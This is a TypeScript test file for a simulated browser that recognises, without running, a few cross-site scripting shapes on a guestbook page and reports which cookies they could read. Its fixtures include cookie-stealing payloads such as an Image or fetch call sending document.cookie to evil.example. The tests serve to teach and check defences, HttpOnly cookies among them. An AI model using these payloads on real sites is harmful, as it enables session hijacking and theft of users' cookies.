/**
 * Page scripts, strictly simulated: recognised by shape, never evaluated. What a recognised
 * script reads is what document.cookie would be (HttpOnly cookies left out).
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { CookieJar } from '../../src/browser/cookieJar';
import { recognise, runScripts } from '../../src/browser/scripts';
import { ManualClock } from '../../src/django/runtime';

const PAGE = new URL('http://localhost/myapp/guestbook/');
const STEAL = "new Image().src='http://evil.example/steal?c='+document.cookie";

function jar(...headers: string[]): CookieJar {
  const j = new CookieJar(new ManualClock(1_700_000_000_000));
  for (const h of headers) j.setCookie(h, { url: PAGE });
  return j;
}
const inline = (text: string) => ({ text, src: '' });

describe('recognise: only a few fixed shapes', () => {
  it('knows showing and sending document.cookie, one or more statements', () => {
    expect(recognise('alert(document.cookie)')).toEqual([{ url: null, encode: false }]);
    expect(recognise(' console.log( window.document.cookie ); ')).toEqual([
      { url: null, encode: false },
    ]);
    expect(recognise(STEAL)).toEqual([{ url: 'http://evil.example/steal?c=', encode: false }]);
    expect(
      recognise(
        `fetch("http://evil.example/a;b?c=" + encodeURIComponent(document.cookie));\n` +
          `alert(document.cookie)`,
      ),
    ).toEqual([
      { url: 'http://evil.example/a;b?c=', encode: true },
      { url: null, encode: false },
    ]);
  });

  it('refuses everything else, whole scripts only', () => {
    for (const text of [
      'alert(1)',
      "document.cookie = 'x=1'",
      'eval(document.cookie)',
      `${STEAL}; globalThis.x = 1`,
      `var c = document.cookie; fetch('http://evil.example/?c=' + c)`,
      `fetch('http://evil.example/?c=' + document.cookie + '&more')`,
      `fetch(\`http://evil.example/\${x}?c=\` + document.cookie)`,
      `alert(document.cookie) alert(document.cookie)`,
      '',
      '   ',
    ])
      expect(recognise(text), text).toBeNull();
  });
});

describe('runScripts', () => {
  afterEach(() => vi.restoreAllMocks());

  it('reads document.cookie without the HttpOnly cookies, and reports where it went', () => {
    const j = jar('sessionid=k123; HttpOnly; Path=/', 'csrftoken=abc; Path=/');
    expect(runScripts([inline(STEAL)], j, PAGE)).toEqual([
      {
        outcome: 'read-cookie',
        cookie: 'csrftoken=abc',
        hidden: ['sessionid'],
        sent: ['http://evil.example/steal?c=csrftoken=abc'],
      },
    ]);
  });

  it('with the session cookie HttpOnly it reads an empty string; without, it takes the key', () => {
    expect(runScripts([inline(STEAL)], jar('sessionid=k123; HttpOnly; Path=/'), PAGE)).toEqual([
      {
        outcome: 'read-cookie',
        cookie: '',
        hidden: ['sessionid'],
        sent: ['http://evil.example/steal?c='],
      },
    ]);
    const encoded = "fetch('http://evil.example/s?c='+encodeURIComponent(document.cookie))";
    expect(runScripts([inline(encoded)], jar('sessionid=k123; Path=/'), PAGE)).toEqual([
      {
        outcome: 'read-cookie',
        cookie: 'sessionid=k123',
        hidden: [],
        sent: ['http://evil.example/s?c=sessionid%3Dk123'],
      },
    ]);
  });

  it('does not run other scripts, external scripts, or sends to the same site', () => {
    const j = jar('sessionid=k123; Path=/');
    expect(
      runScripts(
        [
          inline('alert(1)'),
          { text: '', src: 'http://evil.example/x.js' },
          inline("fetch('http://localhost/log?c='+document.cookie)"),
          inline("fetch('/log?c='+document.cookie)"),
          inline("fetch('javascript:alert(1)//'+document.cookie)"),
        ],
        j,
        PAGE,
      ),
    ).toEqual([
      { outcome: 'not-run', reason: 'unrecognised', src: '' },
      { outcome: 'not-run', reason: 'external', src: 'http://evil.example/x.js' },
      { outcome: 'not-run', reason: 'unrecognised', src: '' },
      { outcome: 'not-run', reason: 'unrecognised', src: '' },
      { outcome: 'not-run', reason: 'unrecognised', src: '' },
    ]);
  });

  it('never evaluates script text', () => {
    const evalSpy = vi.spyOn(globalThis, 'eval');
    const alert = vi.fn();
    vi.stubGlobal('alert', alert);
    const flag = globalThis as { pwned?: unknown };
    const reports = runScripts(
      [
        inline('globalThis.pwned = 1'),
        inline(`globalThis.pwned = 2; ${STEAL}`),
        inline('alert(document.cookie)'),
      ],
      jar('a=1; Path=/'),
      PAGE,
    );
    expect(reports.map((r) => r.outcome)).toEqual(['not-run', 'not-run', 'read-cookie']);
    expect(flag.pwned).toBeUndefined();
    expect(alert).not.toHaveBeenCalled();
    expect(evalSpy).not.toHaveBeenCalled();
    vi.unstubAllGlobals();
  });
});
